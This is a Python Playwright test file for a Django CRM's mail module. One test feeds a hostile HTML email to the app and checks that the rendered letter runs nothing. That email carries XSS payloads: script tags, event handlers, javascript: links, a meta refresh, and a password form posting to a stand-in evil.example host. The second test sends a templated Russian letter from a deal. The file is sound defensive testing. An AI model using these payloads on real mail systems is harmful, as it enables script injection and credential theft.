"""Issue 12 in a browser. Acceptance 2: compose from a deal, in Russian, with a template; send
it; see it on the deal's timeline and in its thread. Acceptance 4: the HTML of a hostile
letter runs nothing in Chromium (no dialog, no navigation, no script, no handler)."""

import email
import email.policy
import re

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from tests.browser.test_calendar import sign_in
from tests.factories import ContactFactory, DealFactory, MailboxFactory, UserFactory
from voronka.activities.models import Activity
from voronka.mail import store
from voronka.mail.models import Folder, Message, Template

# The real servers of the mail tests (Dovecot, aiosmtpd) and the loopback allowance.
from voronka.mail.tests.conftest import dovecot, loopback_allowed, smtp_server  # noqa: F401

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def manager(team):
    return UserFactory(
        username="aliya",
        first_name="Алия",
        last_name="Нурланова",
        team=team,
        password="aliya-pass-2026",
        timezone="Asia/Almaty",
        email="aliya@voronka.test",
    )


HOSTILE = b"""From: Attacker <evil@example.com>
To: aliya@voronka.test
Subject: =?utf-8?B?0JLQsNGI0LAg0L/QvtC10LfQtNC60LA=?=
Message-ID: <hostile-1@example.com>
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body{background:url(javascript:alert('css'))}</style>
<script>alert('script'); window.top.location = 'https://evil.example/'</script></head>
<body onload="alert('onload')">
<p id="safe">Safe text of the letter</p>
<img src="x" onerror="alert('onerror'); top.document.body.dataset.pwned = 1">
<a id="js-link" href="javascript:alert('link')">click me</a>
<div style="width: expression(alert('expression')); background-image: url('javascript:alert(1)')">styled</div>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<object data="data:text/html,<script>alert('object')</script>"></object>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<math><mtext><script>alert('math')</script></mtext></math>
</body></html>
"""


def test_a_hostile_letter_runs_nothing(page: Page, live_server, manager):
    mailbox = MailboxFactory(owner=manager, email="aliya@voronka.test")
    folder = Folder.objects.create(mailbox=mailbox, name="INBOX", uidvalidity=1)
    message = store.store_fetched(
        mailbox, folder, uid=1, raw=HOSTILE, seen=False, internal_date=timezone.now()
    )
    dialogs, console = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda msg: console.append(msg.text))
    sign_in(page, live_server.url)

    thread_url = f"{live_server.url}{message.thread.get_absolute_url()}"
    page.goto(thread_url)
    frame = page.frame_locator("[data-testid=letter-frame]")
    expect(frame.get_by_text("Safe text of the letter")).to_be_visible()
    assert page.locator("[data-testid=letter-frame]").get_attribute("sandbox") == ""

    inner = page.frame(url=re.compile(r"/mail/letters/\d+/body/"))
    found = inner.evaluate(
        """() => ({
            scripts: document.scripts.length,
            handlers: [...document.querySelectorAll('*')].filter(
                el => [...el.attributes].some(a => a.name.startsWith('on'))).length,
            jsLinks: [...document.querySelectorAll('[href], [src], [action], [data]')].filter(
                el => /^\\s*(javascript|data:text|data:image\\/svg)/i.test(
                    el.getAttribute('href') || el.getAttribute('src') ||
                    el.getAttribute('action') || el.getAttribute('data') || '')).length,
            styles: document.querySelectorAll('style, [style]').length - 1,
            svg: document.querySelectorAll('svg, math, iframe, object, form, meta[http-equiv], base').length,
        })"""
    )
    assert found == {"scripts": 0, "handlers": 0, "jsLinks": 0, "styles": 0, "svg": 0}

    # Clicking what was a javascript: link does nothing either.
    frame.get_by_text("click me").click()
    expect(frame.get_by_text("Safe text of the letter")).to_be_visible()
    assert page.url == thread_url
    assert page.evaluate("document.body.dataset.pwned") is None

    # Opened on its own (outside the sandboxed frame) the letter is still inert: the page's
    # policy allows no script at all.
    page.goto(f"{live_server.url}/mail/letters/{message.pk}/body/")
    expect(page.get_by_text("Safe text of the letter")).to_be_visible()
    assert page.evaluate("document.body.dataset.pwned") is None
    assert dialogs == []
    assert not [line for line in console if "pwned" in line]


def test_compose_from_a_deal_with_a_template(
    page: Page,
    live_server,
    manager,
    dovecot,  # noqa: F811
    smtp_server,  # noqa: F811
    loopback_allowed,  # noqa: F811
):
    controller, sink = smtp_server
    user = dovecot.add_user()
    MailboxFactory(
        owner=manager,
        name="Почта Алии",
        email=f"{user}@voronka.test",
        imap_port=dovecot.port,
        imap_login=user,
        smtp_port=controller.port,
    )
    contact = ContactFactory(
        owner=manager, first_name="Анна", last_name="Иванова", emails=["anna@example.com"]
    )
    deal = DealFactory(
        owner=manager, contact=contact, company=contact.company, name="Тур в Стамбул на 4 человек"
    )
    Template.objects.create(
        owner=manager,
        name="Коммерческое предложение",
        subject="Предложение по сделке «{{ сделка.название }}»",
        body="Здравствуйте, {{ контакт.имя }}!\nНаправляем предложение.\n{{ отправитель.полное_имя }}",
    )
    sign_in(page, live_server.url)
    page.goto(f"{live_server.url}{deal.get_absolute_url()}")
    page.get_by_test_id("write-letter").click()

    form = page.get_by_test_id("compose-form")
    expect(form.get_by_label("Кому")).to_have_value("anna@example.com")
    with page.expect_response(re.compile(r"/mail/compose/template/")):
        form.get_by_label("Шаблон").select_option(label="Коммерческое предложение")
    expect(form.get_by_label("Тема")).to_have_value(
        "Предложение по сделке «Тур в Стамбул на 4 человек»"
    )
    expect(form.get_by_label("Текст")).to_have_value(re.compile("^Здравствуйте, Анна!"))
    form.get_by_role("button", name="Отправить").click()

    # Back on the deal: the letter is on its timeline and in its letters.
    expect(page.get_by_text("Письмо отправляется")).to_be_visible()
    timeline = page.get_by_test_id("timeline")
    expect(
        timeline.get_by_text("Предложение по сделке «Тур в Стамбул на 4 человек»")
    ).to_be_visible()
    letters = page.get_by_test_id("record-letters")
    letters.get_by_role("link", name=re.compile("Предложение по сделке")).click()

    # … and in its thread, sent.
    expect(page.get_by_test_id("send-status")).to_have_text("отправлено")
    expect(page.get_by_test_id("letter-text")).to_contain_text("Направляем предложение.")

    message = Message.objects.get(direction="out")
    assert message.thread.deal == deal
    assert Activity.objects.filter(deal=deal, kind="email").exists()
    [envelope] = sink.envelopes
    received = email.message_from_bytes(envelope.content, policy=email.policy.default)
    assert received["Subject"] == "Предложение по сделке «Тур в Стамбул на 4 человек»"
    assert received["To"] == "anna@example.com"
